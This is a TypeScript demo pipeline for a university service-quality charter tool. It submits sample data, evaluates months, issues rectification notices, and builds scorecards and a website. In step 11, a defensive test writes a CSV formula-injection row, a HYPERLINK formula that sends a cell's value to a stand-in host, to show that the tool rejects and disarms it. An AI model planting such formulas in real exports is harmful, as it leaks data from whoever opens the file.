// npm start: the whole pipeline on the bundled sample university — validate the standards, submit the
// sample's service data into a fresh store, evaluate the term, issue rectification notices and follow
// them through the loop, print the monthly scorecards, and build the commitment site (both editions).
import { appendFileSync, existsSync, mkdirSync, readdirSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { COMMANDS, runSafely, type Io } from '../engine/cli/main.ts';
import { everydayLines, markSampleStore, sampleStore } from './sample-store.ts';
import { fitLines } from '../engine/cli/format.ts';
import { cliWords } from '../engine/cli/words.ts';
import { findYamlFiles, loadTree } from '../engine/load/tree.ts';
import { monthWords, REASON_CODE, say } from '../engine/model/labels.ts';

const ROOT = join(import.meta.dirname, '..');
const SAMPLE = join('examples', 'sample-university');
const OUT = 'out';
// The default store, so the README's everyday commands find the sample without --db (never a store npm start did not make).
const { db: DB, fallback: DB_FALLBACK } = sampleStore(ROOT);
const lang = process.argv.includes('--lang') && process.argv[process.argv.indexOf('--lang') + 1] === 'en' ? 'en' : 'zh';
const zh = lang === 'zh';
// The transcript is also written to out/start.log (out/start.en.log with --lang en), without colours, for
// `npm run check-words`, which counts the codes that reach what a reader sees.
const LOG = join(ROOT, OUT, zh ? 'start.log' : 'start.en.log');
mkdirSync(join(ROOT, OUT), { recursive: true });
writeFileSync(LOG, '');
const logged = (s: string): string => {
  const line = s.endsWith('\n') ? s : s + '\n';
  appendFileSync(LOG, line.replace(/\x1b\[[0-9;]*m/g, ''));
  return line;
};
const io: Io = {
  out: (s) => process.stdout.write(logged(s)),
  err: (s) => process.stderr.write(logged(s)),
  cwd: ROOT,
  color: Boolean(process.stdout.isTTY) && !process.env.NO_COLOR,
};
// Names for the lines this script prints itself (providers, requirements, reasons in words).
const words = cliWords(loadTree(findYamlFiles([join(ROOT, 'standards')])), lang);
const step = (t: string): void => io.out(`\n== ${t}`);

step(zh ? '1. 校验 standards/' : '1. Validate standards/');
if ((await runSafely(['validate', '--summary', '--lang', lang], io)) !== 0) process.exit(1);

step(zh ? `2. 提交示例大学的服务数据到新的数据库 ${DB}` : `2. Submit the sample university's service data into a fresh store ${DB}`);
for (const f of [DB, DB + '-wal', DB + '-shm', join(OUT, 'rejects')]) rmSync(join(ROOT, f), { recursive: true, force: true });
if (!DB_FALLBACK) markSampleStore(ROOT, DB);
const NOW = '2026-07-10T09:00:00+08:00'; // the sample's "as of": outputs stay the same run to run
const files: [string, string, string[]][] = [
  ['work-orders.ndjson', 'work-orders', []],
  ['complaints.ndjson', 'complaints', []],
  ['activities.ndjson', 'activities', []],
  ['equipment-counts.ndjson', 'equipment-counts', []],
  ['measurements.ndjson', 'measurements', []],
  ['surveys.ndjson', 'surveys', []],
  // The logistics office's own units (general office, logistics office), bound by the school's plans.
  [join('office', 'consultations.ndjson'), 'consultations', []],
  [join('office', 'complaints.ndjson'), 'complaints', []],
  [join('office', 'work-orders.ndjson'), 'work-orders', []],
  [join('office', 'activities.ndjson'), 'activities', []],
  [join('office', 'measurements.ndjson'), 'measurements', []],
  // The office's supervision: the units' document lists (the supervisors' inspection rounds follow in step 2b).
  ['documents.ndjson', 'documents', []],
  // Scheduled classes, exams, meetings and campus events with when each was ready (readiness leads).
  ['events.ndjson', 'events', []],
  // The 24-hour watches' duty rosters (service window, repair hotline, gates, monitoring centre, dormitory entrances …).
  ['duty-roster.ndjson', 'duty-roster', []],
  // Providers' own exports, through their mappings; they carry injected defects, so keep the valid rows.
  [join('exports', 'repair-platform.csv'), 'work-orders', ['--mapping', 'repair-platform-gbk-csv', '--accept-valid']],
  [join('exports', 'service-hall.xlsx'), 'work-orders', ['--mapping', 'service-hall-xlsx', '--accept-valid']],
];
for (const [file, kind, extra] of files) {
  const path = join(SAMPLE, file);
  if (!existsSync(join(ROOT, path))) continue;
  io.out(`\n$ charter submit ${path} --kind ${kind} ${extra.join(' ')}`.trimEnd());
  const code = await runSafely(['submit', path, '--kind', kind, ...extra, '--db', DB, '--rejects', join(OUT, 'rejects'), '--now', NOW, '--lang', lang], io);
  if (code > 1) process.exit(code);
}

step(zh ? '2b. 现场检查：计划 4 月的检查轮次、打印检查表、提交检查结果' : "2b. On-site inspections: plan April's rounds, print the checklists, submit the results");
// A step whose command this build does not have yet is skipped, and says so (the inspection commands come
// with issue 12: `charter inspections plan|checklist`).
const quietIo: Io = { ...io, out: () => {}, err: () => {} };
const hasCommand = async ([command, sub]: string[]): Promise<boolean> => {
  if (!(command! in COMMANDS)) return false;
  // A command's help lists its subcommands (charter notices issue|list|…).
  let help = '';
  await runSafely([command!, '--help', '--lang', 'en'], { ...quietIo, out: (t) => (help += t) });
  return sub === undefined || new RegExp(`\\b${sub}\\b`).test(help);
};
const skipped = (cmd: string): void => io.out(zh ? `（此版本没有 charter ${cmd} 命令，跳过此步）` : `(this build has no charter ${cmd} command; step skipped)`);
const CHECKLISTS = join(OUT, 'inspections');
rmSync(join(ROOT, CHECKLISTS), { recursive: true, force: true });
// The plan of one company (the property company has the most places); --json gives every round's rows.
io.out(`\n$ charter inspections plan --period 2026-04 --provider huayu-property`);
if (await hasCommand(['inspections', 'plan'])) await runSafely(['inspections', 'plan', '--period', '2026-04', '--provider', 'huayu-property', '--lang', lang], io);
else skipped('inspections plan');
// The sheets the supervisors carry (PDF, one per round) and the workbook they fill on a computer (one sheet per round).
io.out(`\n$ charter inspections checklist --period 2026-04 --format both --out ${CHECKLISTS}`);
if (await hasCommand(['inspections', 'checklist'])) await runSafely(['inspections', 'checklist', '--period', '2026-04', '--format', 'both', '--out', CHECKLISTS, '--lang', lang], io);
else skipped('inspections checklist');
// The term's results: the main campus's rounds filled in the round workbooks, the east campus's exported from the
// phone form. The property company's April files are shown in full; the rest are submitted the same way and counted.
{
  const dir = join(SAMPLE, 'inspections');
  const roundFiles = existsSync(join(ROOT, dir)) ? readdirSync(join(ROOT, dir)).filter((f) => /\.(ndjson|xlsx)$/.test(f)).sort() : [];
  const workbookMapping = existsSync(join(ROOT, 'standards', 'mappings', 'inspection-round-xlsx.yaml'));
  let files = 0;
  let refused = 0;
  let unread = 0;
  for (const f of roundFiles) {
    const path = join(dir, f);
    if (f.endsWith('.xlsx') && !workbookMapping) {
      unread++;
      continue;
    }
    const extra = f.endsWith('.xlsx') ? ['--mapping', 'inspection-round-xlsx'] : [];
    const shown = f.startsWith('2026-04-huayu-property') && !f.includes('-W');
    if (shown) io.out(`\n$ charter submit ${path} --kind inspection-results ${extra.join(' ')}`.trimEnd());
    const code = await runSafely(['submit', path, '--kind', 'inspection-results', ...extra, '--db', DB, '--rejects', join(OUT, 'rejects'), '--now', NOW, '--lang', lang], shown ? io : quietIo);
    if (code > 1) process.exit(code);
    files++;
    if (code !== 0) refused++;
  }
  io.out(fitLines(
    zh
      ? `\n现场检查结果：共提交 ${files} 个文件（纸质检查表录入的工作簿与手机表单导出），其中 ${refused} 个被拒收${unread ? `；${unread} 个工作簿因缺少映射 inspection-round-xlsx 未提交` : ''}。`
      : `\nInspection results: ${files} files submitted (round workbooks typed in from the paper sheets, and exports of the phone form), ${refused} refused${unread ? `; ${unread} workbooks not submitted (no inspection-round-xlsx mapping)` : ''}.`,
  ));
}

step(zh ? '3. 已记录的提交' : '3. Recorded submissions');
await runSafely(['submissions', '--db', DB, '--lang', lang], io);

// Disclosure requirements (4.1 window and hotline, 4.3 pledges, 7.2 prices, the plans' 公示) are judged from the
// public site build recorded before each month's end, so the site the office put up when the term's contracts
// began is built and recorded before any month is evaluated. The sample loads the term at once: the build is
// dated with --now, like every step here (its pledge figures reach July; the items judged come from the YAML).
io.out(`\n$ charter site build --edition public --now 2026-02-23T09:00`);
await runSafely(['site', 'build', '--edition', 'public', '--db', DB, '--now', '2026-02-23T09:00:00+08:00', '--lang', lang], io);

step(zh ? '4. 评价 2026 年 4 月' : '4. Evaluate April 2026');
// Evaluated after the data came in; each run is recorded, so data submitted later for these months is reported.
const EVALUATED = '2026-07-10T10:00:00+08:00';
await runSafely(['evaluate', '--period', '2026-04', '--db', DB, '--out', join(OUT, '2026-04'), '--now', EVALUATED, '--lang', lang], io);

step(zh ? '5. 评价整个学期的其余月份' : '5. Evaluate the other months of the term');
const quiet: Io = { ...io, out: () => {} };
for (const month of ['2026-02', '2026-03', '2026-05', '2026-06', '2026-07']) {
  let text = '';
  await runSafely(['evaluate', '--period', month, '--db', DB, '--out', join(OUT, month), '--now', EVALUATED, '--json'], { ...quiet, out: (s) => (text += s) });
  const r = JSON.parse(text) as { summary: Record<string, number>; findings_file: string; no_data: number; pending: number };
  io.out(fitLines(zh ? `${monthWords(month, lang)}：通过 ${r.summary.passed}，不通过 ${r.summary.failed}，数据错误 ${r.summary.error}，无数据 ${r.no_data}，待定个案 ${r.pending} → ${join(OUT, month, 'findings.json')}` : `${monthWords(month, lang)}: passed ${r.summary.passed}, failed ${r.summary.failed}, data errors ${r.summary.error}, no data ${r.no_data}, pending cases ${r.pending} → ${join(OUT, month, 'findings.json')}`));
  // No data is never a pass: show the cases, counts and logs a provider did not submit (documents and on-site checks are counted above).
  const f = JSON.parse(readFileSync(r.findings_file, 'utf8')) as { findings: { provider: string; requirement: string; type: string; status: string; reason_code?: string }[] };
  const silent = f.findings.filter((x) => x.reason_code === 'no-data' && ['timeliness', 'rate', 'frequency'].includes(x.type)).map((x) => `${words.names.provider(x.provider)} ${words.requirement(x.requirement)}`);
  if (silent.length) io.out(fitLines(zh ? `  无数据（本期未提交该类数据，不视为通过）：${silent.join('；')}` : `  No data (nothing of the kind submitted; never read as passed): ${silent.join('; ')}`));
}

// The school's plans bind units of the register: the general office answers to its service guide.
io.out(`\n$ charter evaluate --period 2026-05 --provider general-office`);
await runSafely(['evaluate', '--period', '2026-05', '--provider', 'general-office', '--db', DB, '--out', join(OUT, '2026-05-general-office'), '--lang', lang], io);

step(zh ? '5b. 现场检查的结论：4 月的不合格项，以及各月未审核的要求及其原因' : "5b. What the inspections found: April's failures, and each month's requirements not reviewed and why");
// Read from findings.json, whatever the evaluation's version: an inspection requirement failed with the inspection
// that found it, and every requirement without a verdict with its reason code.
{
  type F = { provider: string; requirement: string; type: string; status: string; reason_code?: string; evidence: { record?: string; unit?: string; place?: string; at?: string; inspector?: string; note?: string; actual?: string | number; text?: { zh: string; en?: string } }[] };
  const read = (month: string): F[] => {
    const file = join(ROOT, OUT, month, 'findings.json');
    return existsSync(file) ? (JSON.parse(readFileSync(file, 'utf8')) as { findings: F[] }).findings : [];
  };
  const failed = read('2026-04').filter((x) => x.type === 'inspection' && x.status === 'failed');
  io.out(zh ? `${monthWords('2026-04', lang)}现场检查不合格 ${failed.length} 项：` : `${monthWords('2026-04', lang)}: ${failed.length} inspection requirements failed:`);
  for (const x of failed) {
    const e = x.evidence[0];
    // The inspection that found it: place, time, inspector, what was found, photos (whichever the finding carries).
    const where = e?.place ?? (e?.unit ? words.place(e.unit) : undefined);
    // The evaluation's own sentence when it wrote one (Evidence.text), else the fields in words.
    const sentence = e?.text ? (zh ? e.text.zh : (e.text.en ?? e.text.zh)) : [where, e?.at ? words.text(e.at) : undefined, e?.inspector, e?.actual, e?.note].filter((v) => v !== undefined && v !== '').join('  ');
    io.out(fitLines(`  ${words.names.provider(x.provider)} ${words.requirement(x.requirement)}：${sentence}`));
  }
  for (const month of ['2026-02', '2026-03', '2026-04', '2026-05', '2026-06', '2026-07']) {
    const applicable = read(month).filter((x) => x.status !== 'not-applicable');
    if (applicable.length === 0) continue;
    const open = applicable.filter((x) => x.status === 'not-reviewed');
    const reasons = new Map<string, number>();
    // A finding without a reason code is shown as such: every not-reviewed finding should say why.
    const why = (x: F): string => (x.reason_code ? say(REASON_CODE, x.reason_code, lang) : zh ? '未说明原因' : 'no reason given');
    for (const x of open) reasons.set(why(x), (reasons.get(why(x)) ?? 0) + 1);
    const share = ((100 * open.length) / applicable.length).toFixed(1);
    const list = [...reasons].sort((a, b) => b[1] - a[1] || (a[0] < b[0] ? -1 : 1)).map(([r, n]) => `${r} ${n}`).join(zh ? '，' : ', ');
    io.out(fitLines(zh ? `${monthWords(month, lang)}：适用要求 ${applicable.length} 项，未审核 ${open.length} 项（${share}\u00a0%）：${list}` : `${monthWords(month, lang)}: ${applicable.length} applicable requirements, ${open.length} not reviewed (${share}\u00a0%): ${list}`));
  }
}

step(zh ? '6. 签发整改通知单（每月评价后第 4 个工作日签发）' : '6. Issue rectification notices (a few working days after each month)');
// Fixed issue dates keep the numbers, deadlines and PDFs the same run to run.
const ISSUE: Record<string, string> = { '2026-03': '2026-04-07T09:00', '2026-04': '2026-05-07T09:00', '2026-05': '2026-06-04T09:00', '2026-06': '2026-07-06T09:00' };
const NOTICES = join(OUT, 'notices');
rmSync(join(ROOT, NOTICES), { recursive: true, force: true });
for (const [month, at] of Object.entries(ISSUE)) {
  io.out(`\n$ charter notices issue --period ${month} --at ${at}`);
  const code = await runSafely(['notices', 'issue', '--period', month, '--at', at, '--by', '质量监督科', '--db', DB, '--out', NOTICES, '--lang', lang], io);
  // A month with a data kind missing is refused (CH521): the logistics office's satisfaction rate
  // (service-process-2025:satisfaction-target), for one, has survey results only in the months it surveys. The office issues what the data does show and says so: --force, with a loud warning.
  if (code !== 0) {
    io.out(`\n$ charter notices issue --period ${month} --at ${at} --force`);
    await runSafely(['notices', 'issue', '--period', month, '--at', at, '--by', '质量监督科', '--force', '--db', DB, '--out', NOTICES, '--lang', lang], io);
  }
}

step(zh ? '7. 整改闭环：签收、反馈、复查、逾期与问责' : '7. The loop: acknowledge, reply, verify, overdue and escalation');
// The notices the loop follows, found by provider and month in the ledger (numbers depend on what each month issued).
const numberOf = async (provider: string, period: string): Promise<string> => {
  let text = '';
  await runSafely(['notices', 'list', '--period', period, '--provider', provider, '--json', '--db', DB], { ...io, out: (t) => (text += t), err: () => {} });
  const n = (JSON.parse(text || '[]') as { number: string; provider: string }[]).find((x) => x.provider === provider)?.number;
  if (!n) throw new Error(`npm start: no notice for ${provider} in ${period}`);
  return (/〔(\d{4})〕第(\d+)号/.exec(n) ?? []).slice(1).join('-') || n;
};
const HUAYU_APRIL = await numberOf('huayu-property', '2026-04');
const XINYUAN_APRIL = await numberOf('xinyuan-service', '2026-04');
const HUAYU_MARCH = await numberOf('huayu-property', '2026-03');
const loop: string[][] = [
  // April's notices: the property company signs, reports its rectification, and the office re-checks on May's data.
  ['ack', HUAYU_APRIL, '--by', '张经理（华宇物业）', '--at', '2026-05-08T10:00'],
  ['reply', HUAYU_APRIL, '--by', '张经理（华宇物业）', '--note', '已调整维修人员排班，增设楼宇值守，超时工单逐单分析', '--at', '2026-05-12T16:00'],
  ['verify', HUAYU_APRIL, '--by', '质量监督科', '--as-of', '2026-06-01T00:00'],
  ['ack', XINYUAN_APRIL, '--by', '李主管（信远后勤）', '--at', '2026-05-08T11:00'],
  ['reply', XINYUAN_APRIL, '--by', '李主管（信远后勤）', '--note', '更换损坏路灯；配电房巡检改为每日两次并签字存档', '--at', '2026-05-11T17:00'],
  ['verify', XINYUAN_APRIL, '--by', '质量监督科', '--as-of', '2026-07-01T00:00'],
  // Everything else was left alone: the plan's rules decide what is overdue and what goes to accountability.
  ['review', '--as-of', '2026-07-10T09:00'],
  ['list'],
  ['show', XINYUAN_APRIL],
  // The failed re-check of 华宇's April notice set a new deadline (再次限期整改): shown with the first one.
  ['show', HUAYU_APRIL],
];
for (const args of loop) {
  io.out(`\n$ charter notices ${args.join(' ')}`);
  await runSafely(['notices', ...args, '--db', DB, '--out', NOTICES, '--lang', lang], io);
}

step(zh ? '8. 月度考核评分表' : '8. Monthly scorecards');
const CARDS = join(OUT, 'scorecards');
// A month is scored after it ends (CH522 otherwise): here on the fifth working day of the next month.
const SCORED: Record<string, string> = { '2026-04': '2026-05-08T09:00', '2026-05': '2026-06-05T09:00', '2026-06': '2026-07-07T09:00' };
for (const [month, at] of Object.entries(SCORED)) {
  io.out(`\n$ charter scorecard --period ${month} --at ${at}`);
  await runSafely(['scorecard', '--period', month, '--at', at, '--db', DB, '--out', CARDS, '--lang', lang], io);
}

step(zh ? '8b. 没有数据不等于合格；宜为建议；误发通知单作废' : '8b. Silence is not success; should is advice; voiding a wrong notice');
// A card is a draft (草稿·待补数据) when fewer than the scorecard's coverage_floor of requirements got a verdict;
// 宜 items are listed apart.
const extra: string[][] = [
  // A dry run: what July would get, as 草稿 PDFs, with no number taken and nothing written to the ledger.
  ['notices', 'issue', '--period', '2026-07', '--at', '2026-08-04T09:00', '--dry-run'],
  // March's first notice turns out to have been issued from an unchecked data batch: it is voided as a whole;
  // its number stays used, and March is issued again from the checked data under a new number.
  ['notices', 'void', HUAYU_MARCH, '--reason', '签发时误用了未经复核的3月数据批次（工单到场时间与完工时间两列错位），整单作废，按复核后的数据另行签发', '--by', '质量监督科', '--at', '2026-07-10T10:00'],
  // A voided notice takes no further step (CH520).
  ['notices', 'ack', HUAYU_MARCH, '--by', '张经理（华宇物业）', '--at', '2026-07-10T11:00'],
  ['notices', 'show', HUAYU_MARCH],
  ['notices', 'issue', '--period', '2026-03', '--at', '2026-07-10T14:00', '--by', '质量监督科', '--force'],
  ['notices', 'list', '--period', '2026-03'],
  // March again, after the void: the voided notice's findings are listed as （已作废，不扣分）.
  ['scorecard', '--period', '2026-03', '--at', '2026-07-10T11:00', '--out', join(OUT, 'scorecards')],
];
for (const args of extra) {
  io.out(`\n$ charter ${args.join(' ')}`);
  await runSafely([...args, '--db', DB, ...(args[0] === 'notices' ? ['--out', NOTICES] : []), '--lang', lang], io);
}

step(zh ? '9. 服务承诺网站：公开版与后勤处内部版' : '9. The commitment site: public and internal editions');
for (const edition of ['public', 'internal']) {
  io.out(`\n$ charter site build --edition ${edition}`);
  await runSafely(['site', 'build', '--edition', edition, '--db', DB, '--pdf', OUT, '--now', '2026-07-10T11:00:00+08:00', '--lang', lang], io);
}

step(zh ? '10. 迟交的数据：4 月已评价之后才提交的工单' : '10. Late data: a work order of April submitted after April was evaluated');
// A work order of 16 April (huayu-property, reached after 90 minutes; the contract allows 45) comes in on 20 July. The
// next evaluation says that April's result would now change; re-evaluating and re-issuing stay the office's call.
const LATE = join(OUT, 'late');
mkdirSync(join(ROOT, LATE), { recursive: true });
const lateFile = join(LATE, 'work-orders-2026-04-late.ndjson');
writeFileSync(
  join(ROOT, lateFile),
  JSON.stringify({ id: 'WO-2026-LATE-0416', provider: 'huayu-property', campus: 'main', building: 'd01', category: 'general', priority: 'normal', reported_at: '2026-04-16T10:00:00+08:00', arrived_at: '2026-04-16T11:30:00+08:00', completed_at: '2026-04-16T12:10:00+08:00' }) + '\n',
);
io.out(`\n$ charter submit ${lateFile} --kind work-orders --now 2026-07-20T09:00`);
await runSafely(['submit', lateFile, '--kind', 'work-orders', '--db', DB, '--rejects', join(OUT, 'rejects'), '--now', '2026-07-20T09:00:00+08:00', '--lang', lang], io);
io.out(`\n$ charter evaluate --period 2026-07 --now 2026-07-21T09:00`);
let lateText = '';
await runSafely(['evaluate', '--period', '2026-07', '--db', DB, '--out', LATE, '--now', '2026-07-21T09:00:00+08:00', '--lang', lang], { ...quiet, out: (s) => (lateText += s + '\n') });
const at = lateText.search(/\d{4}-\d{2} 的评价结果已因之后提交的数据而改变|The result for \d{4}-\d{2} has changed/);
io.out(at >= 0 ? lateText.slice(at).trimEnd() : zh ? '（没有因迟交数据而改变的月份）' : '(no month changed by late data)');

step(zh ? '11. 有害的输入：公式单元格被拒收且在拒收文件中失效，网站不会覆盖他人的目录' : "11. Hostile input: formula cells are rejected and disarmed in the rejects file; the site never overwrites someone's folder");
// A provider's export with a spreadsheet formula where the category belongs: the row is rejected, and the
// rejects file (opened in Excel by the provider) carries the cell as text, never as a formula.
const HOSTILE = join(OUT, 'hostile');
rmSync(join(ROOT, HOSTILE), { recursive: true, force: true });
mkdirSync(join(ROOT, HOSTILE, 'my-folder'), { recursive: true });
const formulaFile = join(HOSTILE, 'work-orders-formula.csv');
writeFileSync(
  join(ROOT, formulaFile),
  'id,provider,campus,category,priority,reported_at\n' +
    'WO-2026-HOSTILE-1,huayu-property,main,"=HYPERLINK(""http://example.invalid/""&A1,""点击"")",normal,2026-07-08T10:00:00+08:00\n' +
    'WO-2026-HOSTILE-2,huayu-property,main,water,normal,2026-07-08T10:05:00+08:00\n',
);
io.out(`\n$ charter submit ${formulaFile} --kind work-orders --accept-valid --rejects ${join(HOSTILE, 'rejects')}`);
await runSafely(['submit', formulaFile, '--kind', 'work-orders', '--accept-valid', '--db', join(HOSTILE, 'hostile.sqlite'), '--rejects', join(HOSTILE, 'rejects'), '--now', NOW, '--lang', lang], io);
for (const f of readdirSync(join(ROOT, HOSTILE, 'rejects')).filter((x) => x.endsWith('.csv'))) {
  const line = readFileSync(join(ROOT, HOSTILE, 'rejects', f), 'utf8').split(/\r?\n/)[1] ?? '';
  io.out((zh ? '拒收文件第 1 行（单元格以 \' 开头，表格软件按文本显示）：' : 'Rejects file, row 1 (the cell starts with \', so a spreadsheet shows it as text): ') + line);
}
writeFileSync(join(ROOT, HOSTILE, 'my-folder', 'index.html'), '<p>someone else\'s page</p>\n');
io.out(`\n$ charter site build --out ${join(HOSTILE, 'my-folder')}`);
const refusedCode = await runSafely(['site', 'build', '--out', join(HOSTILE, 'my-folder'), '--db', DB, '--lang', lang], io);
io.out(zh ? `（退出码 ${refusedCode}；目录中的 index.html ${existsSync(join(ROOT, HOSTILE, 'my-folder', 'index.html')) ? '原样保留' : '已丢失！'}）` : `(exit code ${refusedCode}; the folder's index.html was ${existsSync(join(ROOT, HOSTILE, 'my-folder', 'index.html')) ? 'kept' : 'LOST!'})`);

step(zh ? '输出位置' : 'Where the outputs are');
io.out(
  zh
    ? `${everydayLines(DB, DB_FALLBACK, lang)}\n拒收文件：${join(OUT, 'rejects')}/\n评价结果：${OUT}/<月份>/findings.json\n整改通知单：${NOTICES}/notice-<年>-<序号>.pdf，按月合并打印：${NOTICES}/notices-<月份>.pdf，试签发草稿：${NOTICES}/drafts/\n考核评分表：${CARDS}/scorecard-<月份>-<服务商>.pdf，按月合并打印：${CARDS}/scorecards-<月份>.pdf\n网站：site/dist/（公开版）、site/dist-internal/（内部版）；预览：npm run preview，然后打开 http://127.0.0.1:4321/ 和 http://127.0.0.1:4322/\n示例数据说明：${join(SAMPLE, 'README.md')}`
    : `${everydayLines(DB, DB_FALLBACK, lang)}\nRejects files: ${join(OUT, 'rejects')}/\nFindings: ${OUT}/<month>/findings.json\nNotices: ${NOTICES}/notice-<year>-<seq>.pdf, combined per month: ${NOTICES}/notices-<month>.pdf, dry-run drafts: ${NOTICES}/drafts/\nScorecards: ${CARDS}/scorecard-<month>-<provider>.pdf, combined per month: ${CARDS}/scorecards-<month>.pdf\nSite: site/dist/ (public), site/dist-internal/ (internal); preview: npm run preview, then open http://127.0.0.1:4321/ and http://127.0.0.1:4322/\nAbout the sample: ${join(SAMPLE, 'README.md')}`,
);
